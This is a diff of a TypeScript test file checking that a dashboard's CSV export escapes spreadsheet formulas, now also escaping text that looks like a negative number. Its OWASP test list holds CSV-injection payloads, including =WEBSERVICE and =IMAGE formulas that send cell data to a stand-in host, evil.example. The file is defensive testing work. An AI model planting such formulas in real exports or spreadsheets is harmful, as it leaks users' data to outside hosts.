@@ -5,9 +5,8 @@ import { cellText } from '../../renderer/src/export/location-cells.js';
 import { EXPORT_COLUMNS, formulaSafe, locationsCsv } from '../../renderer/src/export/locations-csv.js';
 import { buildTestApp, type TestApp } from '../helpers/app.js';
 
-// What a spreadsheet runs as a formula: the cell's first character after the whitespace it skips; a
-// negative number is read as the number it is.
-const RUNS_AS_FORMULA = /^(?!-\d+(\.\d+)?$)\s*[=+\-@\t\r]/;
+// What a spreadsheet runs as a formula: the cell's first character after the whitespace it skips.
+const RUNS_AS_FORMULA = /^\s*[=+\-@\t\r]/;
 
 // OWASP, "CSV Injection" (its examples and payloads), and the usual DDE and web-request variants.
 const OWASP = [
@@ -27,6 +26,7 @@ const OWASP = [
   `=IMAGE("http://evil.example/pixel.png")`,
   `=WEBSERVICE("http://evil.example/?"&A1)`,
   `=1+1`,
+  `-1`,
   `+1`,
   `@`,
   `=`,
@@ -70,14 +70,10 @@ describe('formulaSafe', () => {
     },
   );
 
-  it('numbers written as text: a negative one is left as it is (Excel reads it as the number; a walk saw the apostrophe in every longitude)', () => {
+  it('numbers written as text: a negative one is escaped, as a text that Excel would make a number (a store code "-05")', () => {
     expect(formulaSafe('100')).toBe('100');
-    expect(formulaSafe('-89.65')).toBe('-89.65');
-    expect(formulaSafe('-1')).toBe('-1');
-    // Anything after the number makes it a formula again.
-    expect(formulaSafe('-1+1')).toBe("'-1+1");
-    expect(formulaSafe('-1 ')).toBe("'-1 ");
-    expect(formulaSafe('-1e5')).toBe("'-1e5");
+    expect(formulaSafe('-89.65')).toBe("'-89.65");
+    expect(formulaSafe('-05')).toBe("'-05");
   });
 });
 
@@ -101,6 +97,10 @@ describe('import -> the dashboard export -> papaparse: no cell comes back starti
       state: payloads[(index + 3) % payloads.length]!.slice(0, 120),
       zip: '12345',
       country: 'US',
+      // A negative coordinate is a number (written bare); a store code like a negative number is text.
+      store_code: `-${String(index).padStart(2, '0')}`,
+      latitude: -33.5,
+      longitude: -70.65,
     }));
     const response = await t.request({
       method: 'POST',
@@ -136,8 +136,15 @@ describe('import -> the dashboard export -> papaparse: no cell comes back starti
       expect(line).toHaveLength(EXPORT_COLUMNS.length);
       line.forEach((cell, column) => {
         const [name, field] = EXPORT_COLUMNS[column]!;
+        const stored = rows[index]![field];
+        const original = cellText(field, stored);
+        // A value stored as a number is written as that number: a spreadsheet reads it so, never as a formula.
+        if (typeof stored === 'number') {
+          expect(cell).toBe(original);
+          expect(Number(cell)).toBe(stored);
+          return;
+        }
         expect(cell, `row ${index} column ${name}: ${JSON.stringify(cell)}`).not.toMatch(RUNS_AS_FORMULA);
-        const original = cellText(field, rows[index]![field]);
         if (RUNS_AS_FORMULA.test(original)) {
           escaped += 1;
           expect(cell).toBe(`'${original}`);
